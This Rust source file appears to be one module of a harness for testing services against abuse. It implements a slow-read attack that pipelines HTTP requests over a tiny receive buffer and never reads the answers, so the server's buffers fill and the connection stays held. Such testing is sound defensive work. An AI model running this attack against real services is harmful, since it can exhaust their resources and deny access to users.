//! Clients that do not read the answers.

use super::Attack;
use super::report::Ended;
use super::target::Target;
use futures::future::BoxFuture;
use std::net::IpAddr;
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

/// The smallest that the system permits.
const RECEIVE_BUFFER: u32 = 2048;
const REQUEST: &[u8] = b"GET /wachtwoordreset HTTP/1.1\r\nHost: localhost\r\n\r\n";
/// Interval in which the attacker finds out whether the connection is closed.
const INTERVAL: Duration = Duration::from_secs(1);

/// Sends requests and reads nothing.
pub(super) struct NeverReading;

impl Attack for NeverReading {
    fn name(&self) -> &'static str {
        "answers are not read"
    }

    fn connection<'a>(&'a self, target: &'a Target, source: IpAddr) -> BoxFuture<'a, Ended> {
        Box::pin(async move {
            let stream = target.connect(source, b"http/1.1", Some(RECEIVE_BUFFER)).await;
            let Some(mut stream) = stream else { return Ended::NotConnected };
            // As soon as the answers fill the buffers of both systems, the service reads no further request, and sending
            // blocks until it closes the connection.
            while stream.write_all(REQUEST).await.is_ok() && stream.flush().await.is_ok() {
                tokio::task::yield_now().await;
            }
            sleep(INTERVAL).await;
            Ended::Closed
        })
    }
}
